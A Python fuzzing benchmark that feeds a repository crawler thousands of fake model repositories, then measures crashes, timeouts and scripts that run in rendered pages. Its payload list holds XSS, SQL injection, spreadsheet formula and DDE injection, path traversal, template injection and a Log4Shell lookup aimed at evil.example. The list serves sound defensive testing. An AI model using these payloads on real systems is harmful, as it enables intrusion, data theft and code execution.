"""Hostile repositories through the local Hub, scan, judge and export: what crashed, what hung, how long it took.

python bench/hostile.py [N] [SEED]        default 10,000 models, the same ones for the same seed

With Chromium and its driver, the pages of some of them are opened and searched for scripts that came alive.
"""

from __future__ import annotations

import os
import random
import re
import sqlite3
import subprocess
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Callable
from pathlib import Path

from selenium import webdriver
from selenium.webdriver.chrome.service import Service

UNITS = (
    "-", "_", " ", ".", "\n", "\t", "/", "0", "a", "é", "中", "\u202e", "\u200b", "\0", "[", "(", "*", "`", "<", ">",
    "|", "> ", "- ", "1. ", "[a](", "![", "<div>", "<b>", "<!--", "**a ", "| a ", "|a|b|\n|-|-|\n", "x\n===\n",
    "[a]: b\n", "a\n\n", "&#", "https://github.com/a/b ", "https://huggingface.co/datasets/a/b ", "trained on ",
    "open-source ", "{{ 7*7 }}", "%s%n",
)  # fmt: skip
YAML = (
    "- a{}/b\n", "- [a, b]\n", "  x{}: y\n", "- - ", "- 'x\n", "[", "{{", "? ", "# a\n", "- *a\n", "|\n ",
    "a{}: &a{} [*a, *a]\n",
)  # fmt: skip
LITERAL = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "'; DROP TABLE models; --",
    '=HYPERLINK("http://evil.example","x")', "@SUM(1+1)*cmd|' /C calc'!A0", "../../etc/passwd",
    "{% for x in ().__class__.__bases__ %}", "\x1b]8;;http://evil.example\x07", "${jndi:ldap://evil.example/a}",
)  # fmt: skip
SIZES = (*(50,) * 10, *(1_000,) * 6, *(20_000,) * 3, 200_000)  # characters: many short ones, so that ten thousand fit
CHROMIUM, DRIVER = Path("/usr/bin/chromium"), Path("/usr/bin/chromedriver")
ALIVE = """return [...document.querySelectorAll('*')].filter(one =>
    (one.tagName === 'SCRIPT' && one.textContent.includes('alert(1)')) ||
    [...one.attributes].some(its => (/^on/.test(its.name) && its.value.includes('alert')) ||
        (/^(href|src|action)$/.test(its.name) && /^\\s*javascript:/i.test(its.value)))).length"""
Make = Callable[[random.Random], str]


def _run(rng: random.Random) -> str:
    unit = rng.choice(UNITS)
    return unit * (rng.choice(SIZES) // len(unit) + 1)


def _mix(rng: random.Random) -> str:
    return "".join(rng.choice(UNITS + LITERAL) * rng.randint(1, 40) for _ in range(rng.randint(1, 200)))


def _yaml(rng: random.Random) -> str:
    unit = rng.choice(YAML)
    lines = "".join(unit.format(n, n) for n in range(rng.choice(SIZES) // len(unit)))
    return f"---\nlicense: mit\n{rng.choice(('datasets', 'base_model', 'tags', 'license'))}:\n{lines}\n---\n# Gull\n"


def _bomb(rng: random.Random) -> str:
    inside = (f"a{n}: &a{n} [{','.join(f'*a{n - 1}' for _ in range(9))}]\n" for n in range(1, rng.randint(5, 40)))
    return f"---\na0: &a0 x\n{''.join(inside)}license: *a3\n---\n# Gull\n"


def _claim(rng: random.Random) -> str:
    return f"# Gull\n\nThis model is fully open-source{_run(rng)}!\n\nTrained on {rng.choice(LITERAL)}.\n"


def _bytes(rng: random.Random) -> str:
    return "".join(map(chr, rng.choices(range(256), k=rng.choice((10, 5_000)))))


def _markup(rng: random.Random) -> str:
    return f"# {rng.choice(LITERAL)}\n\nOpen-source {rng.choice(LITERAL)}\n"


KINDS: dict[str, Make] = {
    "runs of one thing": _run, "mixtures": _mix, "long YAML": _yaml, "YAML bombs": _bomb, "claims that go on": _claim,
    "bytes": _bytes, "mark-up, SQL, templates": _markup,
}  # fmt: skip


def make(root: Path, number: int, seed: int) -> list[str]:
    """The hub directory; gives the kind of each model."""
    rng = random.Random(seed)
    kinds = []
    for place in range(number):
        kind = rng.choice(list(KINDS))
        folder = root / "models" / "hostile" / f"gull-{place}"
        folder.mkdir(parents=True)
        encoding = "latin-1" if kind == "bytes" else "utf-8"
        (folder / "README.md").write_bytes(KINDS[kind](rng).encode(encoding, "replace"))
        (folder / "LICENSE").write_bytes(f"License terms\n1.{KINDS[kind](rng)}x".encode(encoding, "replace"))
        for name in {
            f"{rng.choice('-_ .~') * rng.randint(1, 120)}licensx",
            "model.safetensors",
            f"train{'_' * 100}.py",
        }:
            (folder / name).touch()
        kinds.append(kind)
    return kinds


def main() -> None:
    given = [int(word) for word in sys.argv[1:]]
    number, seed = (given + [10_000, 7][len(given) :])[:2]
    with tempfile.TemporaryDirectory() as work:
        kinds = make(Path(work, "hub"), number, seed)
        db = Path(work, "x.db")
        serve = [sys.executable, "-m", "crawler", "serve-hub", str(Path(work, "hub")), "--port", "0"]
        server = subprocess.Popen(serve, stdout=subprocess.PIPE, text=True)
        assert server.stdout is not None
        hub = server.stdout.readline().split()[-1]
        run("scan", "--db", str(db), "--hub", hub, "--github", hub, "--scope", "all")
        run("judge", "--db", str(db))
        server.terminate()
        run("export", "--db", str(db), str(Path(work, "out")))
        table(db, kinds)
        if CHROMIUM.exists() and DRIVER.exists():
            browse(db)


def run(*command: str) -> None:
    begun = time.perf_counter()
    done = subprocess.run([sys.executable, "-m", "crawler", *command], capture_output=True, text=True)
    print(f"{command[0]}: exit {done.returncode}, {time.perf_counter() - begun:.0f} s {done.stderr[-300:].strip()!r}")


def table(db: Path, kinds: list[str]) -> None:
    found = sqlite3.connect(db)
    judged = {row[0] for row in found.execute("SELECT repo_id FROM models WHERE read_at IS NOT NULL")}
    errors = dict(found.execute("SELECT repo_id, max(rule) FROM evidence WHERE outcome = 'error' GROUP BY repo_id"))
    print(f"{'kind':26} models  judged  late  failed")
    for kind, count in Counter(kinds).items():
        ids = {f"hostile/gull-{place}" for place, one in enumerate(kinds) if one == kind}
        rules = Counter(rule for repo_id, rule in errors.items() if repo_id in ids)
        late = rules.pop("detector-deadline", 0)
        print(f"{kind:26} {count:6} {len(ids & judged):7} {late:5} {sum(rules.values()):7}")
    for repo_id, quote in found.execute("SELECT repo_id, quote FROM evidence WHERE rule = 'detector-error' LIMIT 5"):
        print(repo_id, quote)


def browse(db: Path) -> None:
    """Open the pages of models whose quotes hold mark-up."""
    quoting = "SELECT DISTINCT repo_id FROM evidence WHERE quote GLOB '*[<]*' OR quote LIKE '%javascript:%' LIMIT 40"
    ids = [repo_id for (repo_id,) in sqlite3.connect(db).execute(quoting)]
    serve = [sys.executable, "-m", "crawler", "serve", "--db", str(db), "--port", "0"]
    server = subprocess.Popen(serve, stdout=subprocess.PIPE, text=True, env={**os.environ, "PYTHONUNBUFFERED": "1"})
    assert server.stdout is not None
    address = re.search(r"http://[^/\s]+", server.stdout.readline())
    assert address
    options = webdriver.ChromeOptions()
    for flag in ("--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"):
        options.add_argument(flag)
    options.set_capability("unhandledPromptBehavior", "ignore")  # an alert that opened is an error of the next call
    browser = webdriver.Chrome(options, Service(str(DRIVER)))
    alive = 0
    for repo_id in ids:
        browser.get(f"{address.group()}/hub-openness/models/{repo_id.replace('/', '~2F')}")
        assert repo_id in browser.title, browser.title
        alive += int(browser.execute_script(ALIVE))
    browser.quit()
    server.terminate()
    print(f"{len(ids)} pages in a browser, {alive} live scripts")


if __name__ == "__main__":
    main()
